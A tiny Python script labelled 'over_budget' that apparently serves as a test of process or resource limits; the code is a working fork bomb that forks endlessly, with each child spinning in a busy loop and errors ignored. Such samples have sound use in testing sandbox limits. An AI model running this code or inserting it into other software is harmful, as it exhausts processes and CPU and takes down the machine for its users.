# over_budget
import os
while True:
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        pass
